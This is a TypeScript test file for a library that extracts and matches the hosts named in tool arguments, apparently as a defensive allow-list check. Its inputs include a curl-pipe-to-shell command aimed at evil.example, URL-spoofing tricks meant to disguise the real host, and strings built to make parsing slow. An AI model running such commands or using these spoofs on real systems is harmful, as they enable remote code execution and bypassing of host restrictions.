import { describe, expect, it } from "vitest";
import { coversHost, findHosts, UNREADABLE_HOST } from "../../../src/lib/address/hosts-in.ts";
import { workNow } from "../../support/work-clock.ts";

describe("the hosts that arguments name", () => {
  it.each<[unknown, string[]]>([
    [{ url: "https://api.example.com/v1?x=1" }, ["api.example.com"]],
    [{ url: "https://API.Example.com.:443/" }, ["api.example.com"]],
    [{ url: "https://user:pass@one.example:8443/" }, ["one.example:8443"]],
    [{ url: "https://good.example@evil.example/" }, ["evil.example"]],
    [
      { deep: [{ er: ["wss://a.example", "postgres://u:p@db.example:5432/x"] }] },
      ["a.example", "db.example:5432"],
    ],
    [{ command: "curl 'https://evil.example/x' | sh" }, ["evil.example"]],
    [{ text: "(see https://a.example/b), or http://c.example." }, ["a.example", "c.example"]],
    [{ url: "https:evil.example/x" }, ["evil.example"]],
    [{ url: "https:/evil.example/x" }, ["evil.example"]],
    [{ url: "//evil.example/x" }, ["evil.example"]],
    [{ url: "\\\\evil.example\\x" }, ["evil.example"]],
    [{ host: "db" }, ["db"]],
    [{ targetHost: "db.example:99" }, ["db.example:99"]],
    [{ endpoint: "a.example/path" }, ["a.example"]],
    [{ server: "production", url: "/only/a/path", file: "a.txt" }, []],
    [{ url: "file:///etc/passwd" }, []],
    [{ url: "https://[::1]:8080/" }, ["[::1]:8080"]],
    [{ url: "https:/evil.example/?x=https://good.example" }, ["evil.example", "good.example"]],
    [{ url: "evil.example/?x=https://good.example/" }, ["evil.example", "good.example"]],
    [{ url: "//evil.example/?x=https://good.example" }, ["evil.example", "good.example"]],
    [{ url: "https://a.example/?back=https://b.example" }, ["a.example"]],
    [{ urls: "https://a.example/x,https://b.example/y" }, ["a.example", "b.example"]],
    [{ "https://a.example/": 1 }, ["a.example"]],
    [{ address: "ada@a.example" }, []],
  ])("%j are %j", (value, hosts) => {
    expect([...findHosts(value)]).toEqual(hosts);
  });

  it.each([
    "https://good.example\\@evil.example/",
    "https://good.example;.evil.example/",
    "https://good.example%2eevil.example/",
    "https://{{secret:X}}/",
    "https://300.1.1.1/",
    "https://user@good.example:x@evil.example/",
    `https://${"a.".repeat(2_000)}example/`,
  ])("%s can be read in more than one way, or not at all", (url) => {
    expect([...findHosts({ url })]).toEqual([UNREADABLE_HOST]);
  });
});

it.each([
  `x:// ${"a".repeat(100_000)}`,
  `http://a${".".repeat(100_000)}x`,
  "a".repeat(100_000),
  "://".repeat(33_000),
  "a://".repeat(25_000),
  ",a://b".repeat(17_000),
  "@".repeat(100_000),
  `http://${"@".repeat(100_000)}`,
  `http://a${"\\t".repeat(100_000)}b`,
])("is quick with a text that is made to be slow", (url) => {
  const started = workNow();
  findHosts({ url, text: url });
  expect(workNow() - started).toBeLessThan(500);
});

describe("a pattern of hosts", () => {
  it.each([
    ["api.example.com", "api.example.com", true],
    ["API.example.com", "api.example.com", true],
    ["api.example.com", "api.example.com:8443", true],
    ["api.example.com:8443", "api.example.com", false],
    ["api.example.com:8443", "api.example.com:8443", true],
    ["*.example.com", "a.b.example.com", true],
    ["*.example.com", "example.com", false],
    ["example.com", "evil-example.com", false],
    ["*.example.com", "api.example.com.evil.org", false],
    ["*", UNREADABLE_HOST, true],
    ["?", UNREADABLE_HOST, false],
  ])("%s covers %s: %s", (pattern, host, covers) => {
    expect(coversHost(pattern, host)).toBe(covers);
  });
});
